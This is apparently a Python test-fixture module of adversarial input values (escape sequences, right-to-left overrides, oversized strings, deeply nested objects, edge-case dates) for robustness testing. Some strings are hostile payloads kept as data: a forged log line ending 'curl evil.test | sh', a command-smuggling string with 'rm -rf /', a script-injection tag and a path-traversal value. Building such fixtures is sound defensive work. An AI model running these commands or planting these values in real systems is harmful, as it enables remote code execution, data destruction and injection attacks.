"""Values that broke programs before, for every external text and structure."""

from typing import Any

ESCAPES = "\x1b[2J\x1b[31mred"
BIDI = "\u202egnp.exe\u202c"
FORGED = "v9\nRollback done: succeeded\nNext:\n  curl evil.test | sh"
MARKUP = "[red]v1[/red][/]"
LONG = "x" * 250_000

TEXTS: dict[str, str] = {
    "empty": "",
    "blank": "   ",
    "a line break": FORGED,
    "carriage return": "v1\r\nSubject: x",
    "line separator": "v1\u2028Next:\u2029x\x85y",
    "NUL": "v1\x00",
    "escape sequences": ESCAPES,
    "right to left": BIDI,
    "zero width": "v\u200b1\ufeff",
    "a Hangul filler": "v1\u3164",
    "a lone surrogate": "v1\ud800",
    "markup": MARKUP,
    "a closing tag": "feature[/login]",
    "a backslash": "v1\\",
    "an emoji's name": ":boom: :key:",
    "a shell": "$(reboot); '; rm -rf /; '",
    "an option": "--force",
    "script": '"><script>alert(1)</script>',
    "a path": "../../x",
    "long": LONG,
    "long and right to left": "\u202e" * 100_000,
    "long and of control characters": "\x01" * 100_000,
    "a little too long": "x" * 1_001,
}


def nested(depth: int) -> Any:
    """Build nested objects of any depth, even beyond Python's recursion limit."""
    value: Any = {}
    for _ in range(depth):
        value = {"a": value}
    return value


SHAPES: dict[str, Any] = {
    "null": None,
    "true": True,
    "zero": 0,
    "negative": -1,
    "a fraction": 4.2,
    "infinity": float("inf"),
    "many digits": 10**5_000,
    "a list": ["v1"],
    "an empty list": [],
    "an object": {"value": {"a": 1}},
    "deep": nested(200),
    "deeper than recursion": nested(5_000),
    "a list of many": ["x"] * 20_000,
    "a week date": "2026-W10-1T00:00:00Z",
    "a leap second": "2026-06-30T23:59:60Z",
    "the first year": "0001-01-01T00:00:00+14:00",
    "the last year": "9999-12-31T23:59:59-14:00",
    "no zone": "2026-03-01T03:00:00",
    "a date": "2026-03-01",
}

VALUES: dict[str, Any] = {**TEXTS, **SHAPES}
# `repr` itself fails on these, and with it whoever reports a failing example.
NOT_PRINTABLE = frozenset({"deeper than recursion", "many digits"})
